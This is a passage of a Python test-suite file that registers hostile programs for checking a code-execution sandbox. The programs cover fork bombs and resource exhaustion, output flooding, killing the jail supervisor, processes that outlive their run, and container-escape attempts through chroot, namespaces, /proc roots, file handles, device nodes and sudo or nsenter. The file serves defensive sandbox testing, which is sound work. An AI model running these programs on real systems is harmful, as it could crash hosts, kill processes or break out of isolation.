    "b_script_oom_chooses_another",
    "memory",
    "tells the kernel to kill anyone else first, then takes memory",
    r"""
import os
for pid in ("self", str(os.getppid()), "1", "@HOST_PID@"):
    try:
        with open(f"/proc/{pid}/oom_score_adj", "w") as handle:
            handle.write("-1000" if pid == "self" else "1000")
        print("changed", pid)
    except OSError as error:
        print(pid, error)
held = []
for _ in range(64):
    held.append(bytearray(os.urandom(1 << 16)) * 1024)
print(len(held))
""",
)

# -------------------------------------------------------------------------------------------------------------------------- disk

_called(
    "b_disk_one_large_file",
    "disk",
    "one file, written with sendfile and copy_file_range from itself so that little CPU is used",
    r"""
import os, tempfile
def solve(n):
    folder = tempfile.gettempdir()
    with open(f"{folder}/cohort-canary-a", "w+b") as first, open(f"{folder}/cohort-canary-b", "w+b") as second:
        first.write(os.urandom(1 << 20))
        first.flush()
        for _ in range(12):
            size = os.fstat(first.fileno()).st_size
            os.lseek(second.fileno(), 0, os.SEEK_END)
            os.sendfile(second.fileno(), first.fileno(), 0, size)
            os.lseek(first.fileno(), 0, os.SEEK_END)
            os.sendfile(first.fileno(), second.fileno(), 0, size)
        return os.fstat(first.fileno()).st_size
""",
)
_called(
    "b_disk_reserved_not_written",
    "disk",
    "fallocate takes the blocks without writing them",
    r"""
import os, tempfile
def solve(n):
    fd = os.open(tempfile.gettempdir() + "/cohort-canary-reserve", os.O_RDWR | os.O_CREAT)
    os.posix_fallocate(fd, 0, 3 << 30)
    return os.fstat(fd).st_blocks
""",
)
_called(
    "b_disk_sparse_terabyte",
    "disk",
    "a file with a hole of eight terabytes: whoever copies or sums up the scratch folder believes it",
    r"""
import os, tempfile
def solve(n):
    fd = os.open(tempfile.gettempdir() + "/cohort-canary-hole", os.O_RDWR | os.O_CREAT)
    os.ftruncate(fd, 8 << 40)
    os.pwrite(fd, b"end", (8 << 40) - 3)
    return os.fstat(fd).st_size
""",
)
_called(
    "b_disk_files_without_names",
    "disk",
    "writes to files that were unlinked or never had a name: a walk over the folder counts nothing",
    r"""
import os, tempfile
def solve(n):
    held, folder, total = [], tempfile.gettempdir(), 0
    for i in range(64):
        try:
            fd = os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600)
        except OSError:
            path = f"{folder}/cohort-canary-{i}"
            fd = os.open(path, os.O_RDWR | os.O_CREAT)
            os.unlink(path)
        held.append(fd)
        for _ in range(32):
            total += os.write(fd, b"\x5a" * (1 << 20))
    return total
""",
)
_called(
    "b_disk_inodes",
    "disk",
    "two hundred thousand empty files, names of 250 bytes",
    r"""
import os, tempfile
def solve(n):
    folder = tempfile.gettempdir()
    made = 0
    try:
        for i in range(200_000):
            os.close(os.open(f"{folder}/cohort-canary-{i:0235d}", os.O_CREAT | os.O_WRONLY))
            made += 1
    except OSError as error:
        print(error)
    return made
""",
)
_called(
    "b_disk_folder_too_deep_to_delete",
    "disk",
    "folders nested tens of thousands deep: a recursive clean-up in the host runs out of stack or path length",
    r"""
import os, tempfile
def solve(n):
    os.chdir(tempfile.gettempdir())
    depth = 0
    try:
        for depth in range(30_000):
            os.mkdir("cohort-canary-d")
            os.chdir("cohort-canary-d")
    except OSError as error:
        print(depth, error)
    return depth
""",
)
_called(
    "b_disk_names_and_modes_hard_to_delete",
    "disk",
    "folders without permissions, names that are no text, immutable flags, a busy folder: clean-up by the host must not fail",
    r"""
import array, fcntl, os, tempfile
def solve(n):
    base = tempfile.mkdtemp(prefix="cohort-canary-").encode()
    for name in (b"\xff\xfe\x80", b"new\nline", b"-rf", b"~", b" ", b"\xed\xa0\x80", b"$(id)", b"x" * 255):
        os.mkdir(base + b"/" + name)
        with open(base + b"/" + name + b"/inside", "wb"):
            pass
        os.chmod(base + b"/" + name, 0)
    os.mkfifo(base + b"/pipe")
    os.symlink(b"loop", base + b"/loop")
    os.symlink(b"/proc/self/fd", base + b"/fds")
    fd = os.open(base + b"/fixed", os.O_CREAT | os.O_RDWR)
    try:
        fcntl.ioctl(fd, 0x40086602, array.array("L", [0x30]))
    except OSError as error:
        print(error)
    os.chmod(base, 0)
    return 1
""",
)
_called(
    "b_disk_symbolic_link_swap",
    "escape",
    "keeps swapping a folder of its scratch space with a link to the canary folder, for a clean-up that follows links",
    r"""
import os, tempfile, threading, time
base = tempfile.mkdtemp(prefix="cohort-canary-")
def swap():
    end = time.time() + 5
    while time.time() < end:
        try:
            os.mkdir(base + "/d")
            open(base + "/d/x", "w").close()
            os.rename(base + "/d", base + "/old")
            os.symlink("@CANARY@", base + "/d")
            time.sleep(0.0005)
            os.unlink(base + "/d")
            os.unlink(base + "/old/x")
            os.rmdir(base + "/old")
        except OSError:
            pass
def solve(n):
    if os.fork() == 0:
        os.setsid()
        swap()
        os._exit(0)
    threading.Thread(target=swap, daemon=True).start()
    return n
""",
)
_called(
    "b_disk_links_out_of_scratch",
    "escape",
    "fills its folders with hard and symbolic links to the canary folder, then changes modes and times through them",
    r"""
import os, tempfile
def solve(n):
    base = tempfile.mkdtemp(prefix="cohort-canary-")
    os.symlink("@CANARY@", base + "/canary")
    os.symlink("@CANARY@", "cohort-canary-here") if os.access(".", os.W_OK) else None
    for name in os.listdir(base + "/canary"):
        path = base + "/canary/" + name
        for attempt in (
            lambda p=path: os.link(p, base + "/hard"),
            lambda p=path: os.utime(p, (1, 1)),
            lambda p=path: os.chmod(p, 0o777),
            lambda p=path: open(p, "ab").write(b"cohort-canary"),
            lambda p=path: os.truncate(p, 0),
            lambda p=path: os.rename(p, p + ".cohort-canary-moved"),
        ):
            try:
                attempt()
            except OSError as error:
                print(error)
    return 1
""",
)
_called(
    "b_disk_extended_attributes",
    "disk",
    "extended attributes: bytes that no file size shows",
    r"""
import os, tempfile
def solve(n):
    folder, total = tempfile.gettempdir(), 0
    for i in range(2000):
        path = f"{folder}/cohort-canary-{i}"
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
        for j in range(8):
            try:
                os.setxattr(path, f"user.cohort{j}", b"\x5a" * 60_000)
                total += 60_000
            except OSError:
                break
    return total
""",
)
_called(
    "b_disk_by_core_dumps",
    "disk",
    "children with large memories that dump core where they stand",
    r"""
import os, resource, signal
def solve(n):
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
    except (OSError, ValueError):
        pass
    for i in range(20):
        pid = os.fork()
        if pid == 0:
            block = bytearray(os.urandom(1 << 20)) * 60
            os.kill(os.getpid(), (signal.SIGSEGV, signal.SIGQUIT, signal.SIGABRT)[i % 3])
            os._exit(len(block) & 1)
        os.waitpid(pid, 0)
    return [name for name in os.listdir(".") if "core" in name]
""",
)
_called(
    "b_disk_of_many_writers",
    "disk",
    "sixty files of fifty megabytes by sixteen processes: each file and each process under a per-file limit",
    r"""
import os, tempfile
def solve(n):
    folder = tempfile.gettempdir()
    pids = []
    for worker in range(16):
        pid = os.fork()
        if pid == 0:
            for i in range(4):
                try:
                    with open(f"{folder}/cohort-canary-{worker}-{i}", "wb") as handle:
                        for _ in range(50):
                            handle.write(b"\x5a" * (1 << 20))
                except OSError:
                    pass
            os._exit(0)
        pids.append(pid)
    for pid in pids:
        os.waitpid(pid, 0)
    return sum(os.stat(f"{folder}/{name}").st_size for name in os.listdir(folder) if name.startswith("cohort-canary-"))
""",
)

# ------------------------------------------------------------------------------------------------------------------------ output

_script(
    "b_output_by_splice",
    "output",
    "moves zeros from the kernel to standard output by splice and tee: gigabytes for hardly any CPU",
    r"""
import os
zero = os.open("/dev/zero", os.O_RDONLY)
reader, writer = os.pipe()
for _ in range(16_384):
    try:
        os.splice(zero, writer, 65536)
        os.splice(reader, 1, 65536)
    except (OSError, AttributeError):
        os.write(1, bytes(65536))
""",
)
_script(
    "b_output_by_many_children",
    "output",
    "thirty children write to both streams after their parent has ended",
    r"""
import os, time
for _ in range(30):
    if os.fork() == 0:
        end = time.time() + 20
        while time.time() < end:
            try:
                os.write(1, b"x" * 65536)
                os.write(2, b"y" * 65536)
            except OSError:
                break
        os._exit(0)
print("parent done", flush=True)
os._exit(0)
""",
)
_script(
    "b_output_only_on_standard_error",
    "output",
    "floods standard error while standard output stays silent: a host that reads one stream after the other locks up",
    r"""
import sys
for _ in range(8_000):
    sys.stderr.write("e" * 65536)
print("6174")
""",
)
_script(
    "b_output_endless_small_lines",
    "output",
    "one byte lines without end: the number of reads is the load, not the number of bytes",
    r"""
import os
for _ in range(50_000_000):
    os.write(1, b"\n")
""",
)
_called(
    "b_output_in_the_reply",
    "output",
    "replies of a quarter of a gigabyte, as bytes, as text, as exception message, as class name",
    r"""
def solve(n):
    if n == 17:
        return b"\x00" * (200 << 20)
    if n == 18:
        raise ValueError("\U0001f600" * (20 << 20))
    raise type("N" * (50 << 20), (Exception,), {})()
""",
    _SOLVE_THRICE,
)
_called(
    "b_output_each_call_a_little",
    "output",
    "every call prints just under what is kept and returns a large value: the sum over the calls is what counts",
    r"""
import sys
def solve(n):
    sys.stdout.write("p" * 60_000)
    sys.stderr.write("q" * 60_000)
    sys.stdout.flush()
    return ["v" * 1000] * 60
""",
    tuple(Ask("solve", (i,), _UNKNOWN + i) for i in range(60)),
)
_called(
    "b_output_replaced_streams",
    "output",
    "sys.stdout is an object that never finishes a write and lies about its encoding; print and flush go there",
    r"""
import sys
class Stream:
    encoding = errors = None
    closed = False
    def write(self, text):
        while True:
            pass
    def flush(self):
        while True:
            pass
    def fileno(self):
        return 10**9
    def __getattr__(self, name):
        return self.flush
sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Stream()
def solve(n):
    return n
""",
)
_script(
    "b_output_to_kernel_and_system_logs",
    "output",
    "writes to the kernel log, the system log and every terminal it can open",
    r"""
import glob, os, syslog
for path in ["/dev/kmsg", "/dev/console", "/dev/tty", "/dev/tty0", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/[012]")]:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        os.write(fd, b"cohort-canary-log @MARKER@\n")
        print("wrote", path)
    except OSError:
        pass
syslog.syslog("cohort-canary-log @MARKER@")
""",
)

# ----------------------------------------------------------------------------------------------------------------------- process

_called(
    "b_fork_doubling",
    "process",
    "doubles itself again and again, each copy ignoring signals",
    r"""
import os, signal, time
def solve(n):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for _ in range(11):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(15)
    os._exit(0)
""",
)
_called(
    "b_fork_that_runs_away",
    "process",
    "each process forks once and dies, thousands of times: by the time a list of processes is read it is out of date",
    r"""
import os, time
def solve(n):
    end = time.time() + 20
    while time.time() < end:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            time.sleep(0.001)
        os.setsid() if os.getpid() != os.getsid(0) else None
""",
)
_called(
    "b_threads_by_thousands",
    "process",
    "four thousand threads with tiny stacks, some made directly with clone",
    r"""
import _thread, threading, time
threading.stack_size(32768)
def wait():
    time.sleep(30)
def solve(n):
    made = 0
    for _ in range(4000):
        try:
            _thread.start_new_thread(wait, ())
            made += 1
        except RuntimeError:
            break
    time.sleep(1)
    return made
""",
)
_called(
    "b_zombies",
    "process",
    "children that end at once and are never waited for: each keeps a process id",
    r"""
import os, time
def solve(n):
    made = 0
    for _ in range(5000):
        try:
            if os.fork() == 0:
                os._exit(0)
            made += 1
        except OSError:
            break
    time.sleep(1)
    return made
""",
)
_called(
    "b_raw_clone_machine_code",
    "process",
    "processes and threads made by machine code that calls the kernel directly, past any wrapper in the C library",
    r"""
import ctypes, mmap, os, time
CODE = bytes.fromhex("4889f84889f74889d64889ca4d89c24d89c84c8b4c24080f05c3")
page = mmap.mmap(-1, 4096, prot=7)
page.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
def solve(n):
    made = 0
    for _ in range(500):
        pid = call(56, 17, 0, 0, 0, 0)
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        made += pid > 0
    return made
""",
)
_called(
    "b_descriptors_exhausted",
    "process",
    "opens files until none are left, in many processes, and keeps them",
    r"""
import os, resource, time
def solve(n):
    try:
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (OSError, ValueError):
        pass
    for _ in range(4):
        os.fork()
    held = []
    try:
        for _ in range(20_000):
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    time.sleep(5)
    return len(held)
""",
)
_called(
    "b_kernel_objects_exhausted",
    "process",
    "epoll, eventfd, timerfd, inotify, signalfd, terminals, timers, semaphores, queues and keys, all it can get of each",
    r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def many(make, limit=5000):
    made = 0
    for i in range(limit):
        if make(i) < 0:
            break
        made += 1
    return made
def solve(n):
    timer = ctypes.c_void_p()
    counts = {
        "timers": many(lambda i: libc.timer_create(1, None, ctypes.byref(timer)), 50_000),
        "keys": many(lambda i: libc.syscall(248, b"user", b"cohort-canary-%d" % i, b"x" * 1000, 1000, -4), 2000),
        "semaphores": many(lambda i: libc.semget(0, 250, 0o1600)),
        "queues": many(lambda i: libc.msgget(0, 0o1600)),
        "mqueues": many(lambda i: libc.mq_open(b"/cohort-canary-%d" % i, os.O_CREAT | os.O_RDWR, 0o600, None), 300),
        "inotify": many(lambda i: libc.inotify_init1(0), 300),
        "epoll": many(lambda i: libc.epoll_create1(0), 300),
        "eventfd": many(lambda i: libc.eventfd(0, 0), 300),
        "timerfd": many(lambda i: libc.timerfd_create(1, 0), 300),
        "terminals": many(lambda i: libc.posix_openpt(2), 300),
        "userfaultfd": many(lambda i: libc.syscall(323, 0), 50),
        "bpf": many(lambda i: libc.syscall(321, 0, b"\x02\0\0\0\x04\0\0\0\0\0\x10\0\x10\0\0\0" + bytes(100), 72), 50),
        "perf": many(lambda i: libc.syscall(298, bytes(128), 0, -1, -1, 0), 50),
        "io_uring": many(lambda i: libc.syscall(425, 4096, ctypes.create_string_buffer(120)), 200),
    }
    print(counts)
    return counts
""",
)
_called(
    "b_epoll_of_epolls",
    "process",
    "epoll sets nested in one another so that one wakeup walks all of them",
    r"""
import os, select
def solve(n):
    layers = [[select.epoll() for _ in range(20)] for _ in range(5)]
    reader, writer = os.pipe()
    for epoll in layers[0]:
        epoll.register(reader, select.EPOLLIN)
    for below, above in zip(layers, layers[1:]):
        for upper in above:
            for lower in below:
                try:
                    upper.register(lower.fileno(), select.EPOLLIN)
                except OSError:
                    pass
    os.write(writer, b"x")
    while True:
        layers[-1][0].poll(0.01)
""",
)
_called(
    "b_process_ring_polling_thread",
    "process",
    "io_uring with a polling thread of the kernel's own: does its CPU time count",
    r"""
import ctypes, struct, time
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    rings = []
    for _ in range(16):
        parameters = ctypes.create_string_buffer(120)
        struct.pack_into("IIIII", parameters, 0, 0, 0, 2, 0, 60_000)
        rings.append(libc.syscall(425, 64, parameters))
    print(rings, flush=True)
    time.sleep(600)
""",
)
_called(
    "b_kill_everything_in_sight",
    "process",
    "kills every process it may signal, supervisor of the jail included, once it is sure that the host's process is out of its sight",
    r"""
import os, signal
def solve(n):
    try:
        os.kill(int("@HOST_PID@"), 0)
        seen = True
    except ProcessLookupError:
        seen = False
    except PermissionError:
        seen = True
    if not seen and os.fork() == 0:
        os.setsid()
        os.kill(-1, signal.SIGKILL)
    return n
""",
)
_called(
    "b_kill_the_supervisor_of_the_jail",
    "process",
    "asks the parent and process 1 to end, hang up, dump core and reload, politely and less politely",
    r"""
import os, signal
def solve(n):
    host = int("@HOST_PID@")
    for pid in {os.getppid(), 1} - {0, host}:
        for name in ("SIGHUP", "SIGINT", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGTERM", "SIGPIPE", "SIGALRM", "SIGCHLD"):
            try:
                os.kill(pid, getattr(signal, name))
            except OSError:
                pass
    return n
""",
)
_called(
    "b_multiprocessing_pool",
    "process",
    "a pool of spawned workers that each import this file again, in a manager with a server",
    r"""
import concurrent.futures, multiprocessing
def work(n):
    with multiprocessing.get_context("fork").Pool(16) as pool:
        return pool.map(abs, range(1000))
def solve(n):
    with concurrent.futures.ProcessPoolExecutor(64) as pool:
        return sum(len(x) for x in pool.map(work, range(64)))
""",
)

# ---------------------------------------------------------------------------------------------------------------------- survivor

_called(
    "b_survivor_double_fork",
    "survivor",
    "leaves the session, the group and the parent behind, closes every descriptor, writes to the canary folder later",
    r"""
import os, sys, time
def solve(n):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 4096)
            os.chdir("/")
            os.execv(sys.executable, [sys.executable, "-c",
                "import time; time.sleep(8); open('@CANARY@/cohort-canary-survived', 'w').write('@MARKER@'); time.sleep(60)"])
        os._exit(0)
    time.sleep(0.3)
    return n
""",
)
_called(
    "b_survivor_of_a_killed_parent",
    "survivor",
    "makes itself the reaper of its descendants, so that they are not adopted by the supervisor, then dies",
    r"""
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None)
def solve(n):
    libc.prctl(36, 1, 0, 0, 0)
    libc.prctl(1, 0, 0, 0, 0)
    for _ in range(5):
        if os.fork() == 0:
            libc.prctl(36, 1, 0, 0, 0)
            os.setsid()
            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(100)  # @MARKER@"])
            time.sleep(100)
            os._exit(0)
    time.sleep(0.2)
    os.kill(os.getpid(), signal.SIGKILL)
""",
)
_script(
    "b_survivor_holds_the_output",
    "survivor",
    "the script ends at once, a grandchild keeps its standard output open: end-of-file never comes",
    r"""
import os, sys
print("6174", flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(100)  # @MARKER@"])
os._exit(0)
""",
)
_script(
    "b_survivor_stopped_and_named_like_the_kernel",
    "survivor",
    "a stopped process with an empty command line and the name of a kernel thread",
    r"""
import ctypes, os, signal, sys
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.setsid()
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)
    pid = os.fork()
    if pid == 0:
        os.execv(sys.executable, ["", "-c", "import os, signal, time\nos.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(60)  # @MARKER@"])
    os._exit(0)
print("6174")
""",
)
_called(
    "b_survivor_relay_outruns_the_killer",
    "survivor",
    "when the channel closes it forks away and goes on under a new process id, faster than a killer that walks a list",
    r"""
import os, signal, time
def solve(n):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
            signal.signal(number, signal.SIG_IGN)
        end = time.time() + 15
        while time.time() < end:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
            time.sleep(0.002)
        try:
            open("@CANARY@/cohort-canary-relay", "w").write("@MARKER@")
        except OSError:
            pass
        os._exit(0)
    return n
""",
)
_called(
    "b_survivor_in_another_control_group",
    "survivor",
    "moves itself to another control group, if the tree is writable, before a kill by control group comes",
    r"""
import glob, os, sys
def solve(n):
    moved = []
    for path in ["/sys/fs/cgroup/cgroup.procs", *glob.glob("/sys/fs/cgroup/*/cgroup.procs"), *glob.glob("/sys/fs/cgroup/*/*/cgroup.procs")]:
        try:
            with open(path, "w") as handle:
                handle.write(str(os.getpid()))
            moved.append(path)
        except OSError:
            pass
    try:
        os.mkdir("/sys/fs/cgroup/cohort-canary-@MARKER@")
        moved.append("made")
    except OSError:
        pass
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(100)  # @MARKER@"])
    print(moved)
    return len(moved)
""",
)
_called(
    "b_survivor_through_another_service",
    "survivor",
    "asks a scheduler or a service manager to start a process for it",
    r"""
import os, shutil, subprocess
COMMANDS = (
    ["systemd-run", "--user", "--quiet", "sleep", "100"],
    ["at", "now"],
    ["crontab", "-l"],
    ["nsenter", "-t", "1", "-a", "touch", "@CANARY@/cohort-canary-nsenter"],
    ["setsid", "-f", "sleep", "100"],
    ["sudo", "-n", "touch", "@CANARY@/cohort-canary-sudo"],
    ["su", "-c", "touch @CANARY@/cohort-canary-su"],
    ["pkexec", "touch", "@CANARY@/cohort-canary-pkexec"],
)
def solve(n):
    for command in COMMANDS:
        if shutil.which(command[0]):
            try:
                print(subprocess.run(command, input=b"touch @CANARY@/cohort-canary-at\n", capture_output=True, timeout=1))
            except (OSError, subprocess.TimeoutExpired) as error:
                print(error)
    return n
""",
)
_called(
    "b_survivor_files_for_the_next_run",
    "survivor",
    "leaves files where a later program would find them, and looks for those of an earlier one",
    r"""
import os, sys, tempfile
def solve(n):
    places = [tempfile.gettempdir(), os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", os.path.expanduser("~"), "/", "/home",
              "/root", "/var/lock", "/proc/self/cwd/..", *sys.path, sys.prefix]
    left, seen = [], []
    for place in places:
        try:
            seen += [name for name in os.listdir(place) if name.startswith("cohort-canary-note")]
            with open(f"{place}/cohort-canary-note-@MARKER@", "w") as handle:
                handle.write("17 -> unknown")
            left.append(place)
        except OSError:
            pass
    print("left", left, "seen", seen)
    return seen
""",
)
_called(
    "b_survivor_abstract_mailbox",
    "survivor",
    "listens on an abstract unix socket from a process of its own, to tell later programs what it learned",
    r"""
import os, socket, time
def solve(n):
    try:
        peer = socket.socket(socket.AF_UNIX)
        peer.connect("\0cohort-canary-mailbox")
        return peer.recv(100)
    except OSError:
        pass
    if os.fork() == 0:
        os.setsid()
        server = socket.socket(socket.AF_UNIX)
        server.bind("\0cohort-canary-mailbox")
        server.listen()
        server.settimeout(60)
        while True:
            server.accept()[0].send(b"message from an earlier life")
    time.sleep(0.2)
    return 0
""",
)

# ------------------------------------------------------------------------------------------- escape (a success prints the word ESCAPED)

_called(
    "b_escape_plain_writes",
    "escape",
    "creates, appends, renames, links and deletes in the canary folder, by every ordinary call",
    r"""
import os, shutil
def solve(n):
    base = "@CANARY@"
    done = []
    for attempt in (
        lambda: open(base + "/cohort-canary-open", "x").close(),
        lambda: os.mkdir(base + "/cohort-canary-mkdir"),
        lambda: os.symlink("/", base + "/cohort-canary-symlink"),
        lambda: os.mkfifo(base + "/cohort-canary-fifo"),
        lambda: os.chmod(base, 0o700),
        lambda: os.utime(base, (1, 1)),
        lambda: [os.unlink(os.path.join(base, name)) for name in os.listdir(base)],
        lambda: shutil.rmtree(base),
        lambda: os.makedirs(base + "/cohort-canary-deep/er"),
    ):
        try:
            attempt()
            done.append(1)
        except OSError as error:
            print(error)
    return len(done)
""",
)
_called(
    "b_escape_through_every_root",
    "escape",
    "writes to the canary folder through /proc/*/root, /proc/*/cwd, dot-dot paths and open folders of other processes",
    r"""
import os
def solve(n):
    roots = ["/..", "../../../../../../../../..", "/proc/self/root", "/proc/self/cwd/../../../../../..", "/proc/1/root", "/proc/1/cwd",
             "/proc/@HOST_PID@/root", "/proc/@HOST_PID@/cwd", f"/proc/{os.getppid()}/root", "/oldroot", "/.old", "/mnt", "/host", "/newroot"]
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        roots.append(f"/proc/{pid}/root")
        try:
            roots += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    for root in roots:
        for middle in ("", "/..", "/../../../../.."):
            try:
                with open(f"{root}{middle}@CANARY@/cohort-canary-root", "w") as handle:
                    handle.write(root)
                print("ESCAPED", root)
            except OSError:
                pass
    return n
""",
)
_called(
    "b_escape_inherited_folder_descriptor",
    "escape",
    "uses every inherited descriptor that is a folder to climb out with openat, fchdir and chroot",
    r"""
import os, stat
def solve(n):
    for fd in range(0, 1024):
        try:
            if not stat.S_ISDIR(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        print("folder", fd, os.readlink(f"/proc/self/fd/{fd}"))
        for climb in ("", "../" * 20):
            try:
                os.close(os.open(climb + "@CANARY@/cohort-canary-openat".lstrip("/"), os.O_CREAT | os.O_WRONLY, dir_fd=fd))
                print("ESCAPED", fd)
            except OSError:
                pass
        try:
            os.fchdir(fd)
            os.chdir("../" * 20)
            open("." + "@CANARY@/cohort-canary-fchdir", "w").close()
            print("ESCAPED", fd)
        except OSError:
            pass
    return n
""",
)
_called(
    "b_escape_chroot_twice",
    "escape",
    "the old way out of a chroot: chroot into a subfolder with the current folder left outside, then climb",
    r"""
import os, tempfile
def solve(n):
    inner = tempfile.mkdtemp(prefix="cohort-canary-")
    fd = os.open("/", os.O_RDONLY)
    try:
        os.chroot(inner)
    except OSError as error:
        return str(error)
    os.fchdir(fd)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    open("@CANARY@/cohort-canary-chroot", "w").close()
    print("ESCAPED")
    return n
""",
)
_called(
    "b_escape_new_namespaces",
    "escape",
    "a user namespace of its own gives every capability: mounts, remounts the root writable, takes off what was mounted over",
    r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, result):
    print(what, result, os.strerror(ctypes.get_errno()) if result else "done", flush=True)
    return result == 0
def solve(n):
    uid, gid = os.getuid(), os.getgid()
    if not attempt("unshare", libc.unshare(0x10000000 | 0x00020000)):
        return 0
    for path, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{path}", "w") as handle:
                handle.write(text)
        except OSError as error:
            print(path, error)
    if not attempt("private", libc.mount(None, b"/", None, 0x4000 | 0x40000, None)):
        return 0
    attempt("tmpfs", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("proc", libc.mount(b"proc", b"/proc", b"proc", 0, None))
    with open("/proc/self/mounts") as handle:
        points = [line.split()[1] for line in handle][::-1]
    for point in points:
        attempt("remount " + point, libc.mount(None, point.encode(), None, 32 | 4096, None))
    for place in (sys.prefix, os.path.dirname(os.__file__), "/", "/usr", "@CANARY@"):
        try:
            open(place + "/cohort-canary-remounted", "w").close()
            print("ESCAPED", place)
        except OSError:
            pass
    for point in points:
        if point != "/":
            attempt("umount " + point, libc.umount2(point.encode(), 2))
    try:
        open("@CANARY@/cohort-canary-uncovered", "w").close()
        print("ESCAPED canary")
    except OSError as error:
        print(error)
    return 1
""",
)
_called(
    "b_escape_enter_other_namespaces",
    "escape",
    "joins the namespaces of the host's process, of process 1 and of the parent, by path and by pidfd",
    r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    for pid in ("@HOST_PID@", "1", str(os.getppid())):
        for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
            try:
                fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            same = os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}")
            if libc.setns(fd, 0) == 0 and not same:
                print("ESCAPED", pid, kind, flush=True)
        handle = libc.syscall(434, int(pid), 0)
        if handle >= 0 and libc.setns(handle, 0x20000) == 0:
            print("entered", pid, flush=True)
    try:
        open("@CANARY@/cohort-canary-setns", "w").close()
        print("ESCAPED canary")
    except OSError as error:
        print(error)
    return n
""",
)
_called(
    "b_escape_file_handles",
    "escape",
    "opens files by inode number with open_by_handle_at, which knows nothing of paths and mounts",
    r"""
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def solve(n):
    for mount in ("/", "/tmp", "/etc", "/usr", "/dev", "/proc", os.getcwd()):
        try:
            fd = os.open(mount, os.O_RDONLY)
        except OSError:
            continue
        for inode in (2, 1, 64, 128, 256):
            for size, kind, body in ((8, 1, struct.pack("II", inode, 0)), (20, 0x4D, struct.pack("QQI", inode, 256, 0))):
                handle = ctypes.create_string_buffer(struct.pack("Ii", size, kind) + body, 128)
                got = libc.open_by_handle_at(fd, handle, os.O_RDONLY)
                if got >= 0:
                    print("ESCAPED", mount, inode, os.readlink(f"/proc/self/fd/{got}"))
                    try:
                        os.close(os.open("@CANARY@/cohort-canary-handle".lstrip("/"), os.O_CREAT | os.O_WRONLY, dir_fd=got))
                    except OSError as error:
                        print(error)
    return n
""",
)
_called(
    "b_escape_device_nodes",
    "escape",
    "makes device nodes for disks and memory and opens them, reading sixteen bytes at most",
    r"""
import os, stat, tempfile
def solve(n):
    folders = [tempfile.gettempdir(), os.getcwd(), "/dev", "/dev/shm"]
    nodes = [(stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 259, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 253, 0), (stat.S_IFBLK, 7, 0),
             (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 2), (stat.S_IFCHR, 10, 229), (stat.S_IFCHR, 5, 1), (stat.S_IFCHR, 1, 11)]
    for folder in folders:
        for i, (kind, major, minor) in enumerate(nodes):
            path = f"{folder}/cohort-canary-node-{i}"
            try:
                os.mknod(path, kind | 0o666, os.makedev(major, minor))
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                print("ESCAPED", major, minor, len(os.read(fd, 16)))
            except OSError as error:
                print(major, minor, error)
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse", "/dev/net/tun"):
        try:
            os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK))
            print("ESCAPED", path)
        except OSError:
            pass
    return n
""",
)
_called(
    "b_escape_kernel_settings",
    "escape",
    "opens for writing, without writing, the settings that would run a command on the host or stop it",
    r"""
import glob, os
def solve(n):
